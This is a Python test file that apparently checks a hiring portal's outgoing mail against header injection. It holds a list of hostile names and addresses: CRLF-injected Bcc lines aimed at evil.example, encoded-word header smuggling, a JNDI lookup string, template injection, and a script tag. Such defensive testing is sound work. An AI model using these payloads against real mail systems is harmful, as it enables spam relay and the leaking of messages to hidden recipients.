"""Names, titles and addresses made to break a mail: exactly our headers, one recipient."""

from datetime import date

import pytest

from portal.company.models import Company
from portal.hiring.actions import updates
from portal.hiring.stages import Status
from portal.mail.kinds import MessageState
from portal.mail.sending import drain
from portal.mail.smtp import Smtp
from portal.plumbing import clock
from portal.plumbing.db import transaction
from tests.faults.smtp_sinks import Sink, running
from tests.make import MONDAY
from tests.posted import html_of, messages


@pytest.fixture(autouse=True)
def _monday():
    with clock.held_at(MONDAY):
        yield


def speaking(address):
    """What speaks to that server."""
    return Smtp(f"smtp://{address}", sender="hiring@northwind.example", own_name="localhost")


def state(session):
    return messages(session)[0].state


HOSTILE = [
    'Eve" <eve@evil.example>, "',
    "Eve\r\nBcc: eve@evil.example",
    "Eve\nX-Evil: 1",
    "Eve, eve@evil.example",
    "=?utf-8?q?Eve=0ABcc:_eve=40evil.example?=",
    "Ева \u202egnp.exe",
    "💥" * 80,
    "A" * 900,
    "${jndi:ldap://evil}{{ 7 * 7 }}%(name)s",
    "<script>alert(1)</script>",
]


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_names_and_titles_change_no_header(session, sessions, make, hostile):
    application = make.application(stage="Interviews")
    application.candidate.called = application.candidate.full_name = hostile
    application.job.title = hostile
    session.commit()
    word = updates.Word(Status.DECIDING, hostile + " x", next_word_by=date(2026, 11, 27))
    with transaction(session):
        updates.give(session, application, make.robin(), word=word)
    sink = Sink()
    with running(sink) as address:
        drain(sessions, by=speaking(address))

    for (_sender, recipients, content), mail in zip(sink.envelopes, sink.mails(), strict=True):
        assert recipients == ["sam@example.org"]
        assert mail["To"] == "sam@example.org"
        assert not {"bcc", "cc", "x-evil"} & {name.lower() for name in mail}
        head = content.partition(b"\r\n\r\n")[0]
        assert max(map(len, head.split(b"\r\n"))) < 998
        assert "<script>" not in html_of(mail)
    unsent = [message for message in messages(session) if message.state is MessageState.FAILED]
    assert len(sink.envelopes) + len(unsent) == 2


def test_a_company_name_that_hides_a_line_end_grows_no_header(session, sessions, make):
    make.application()
    session.get_one(Company, 1).name = "=?utf-8?q?Northwind=0ABcc:_eve=40evil.example?="
    session.commit()
    sink = Sink()
    with running(sink) as address:
        drain(sessions, by=speaking(address))

    assert all(mail["Bcc"] is None for mail in sink.mails())
    assert len(sink.envelopes) + (state(session) is MessageState.FAILED) == 1


@pytest.mark.parametrize(
    ("email", "written"),
    [
        ("sam+jobs@example.org", "sam+jobs@example.org"),
        ("sam@bücher.example", "sam@xn--bcher-kva.example"),
        ('"odd..one"@example.org', None),
        ("сэм@example.org", None),
        ("sam@example.org, eve@evil.example", None),
        ("sam@example.org\r\nBcc: eve@evil.example", None),
        ("Sam <sam@example.org>", None),
        ("a" * 64 + "@" + "b" * 60 + ".example", "a" * 64 + "@" + "b" * 60 + ".example"),
    ],
)
def test_an_odd_address_is_written_to_as_it_stands_or_not_at_all(
    session, sessions, make, email, written
):
    application = make.application()
    application.candidate.email = email
    session.commit()
    sink = Sink()
    with running(sink) as address:
        drain(sessions, by=speaking(address))

    assert [recipients for _s, recipients, _c in sink.envelopes] == ([[written]] if written else [])
    assert state(session) is (MessageState.SENT if written else MessageState.FAILED)
